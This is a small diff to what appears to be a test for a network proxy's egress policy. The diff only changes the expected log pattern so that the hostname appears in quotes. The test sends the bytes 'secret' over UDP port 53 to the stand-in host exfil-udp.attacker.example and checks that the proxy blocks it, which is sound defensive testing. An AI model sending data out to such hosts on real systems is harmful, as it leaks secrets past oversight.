@@ -231,7 +231,7 @@ def test_refused_names_are_never_looked_up(ns, ns_proxy):
     a = in_ns(ns, lambda: Udp(p))
     try:
         a.sendto(b"secret", "exfil-udp.attacker.example", 53)
-        p.wait_for(r"blocked UDP to exfil-udp.attacker.example:53 .*: "
+        p.wait_for(r"blocked UDP to 'exfil-udp.attacker.example':53 .*: "
                    r"not_allowed \(baseline_policy\)")
     finally:
         a.close()
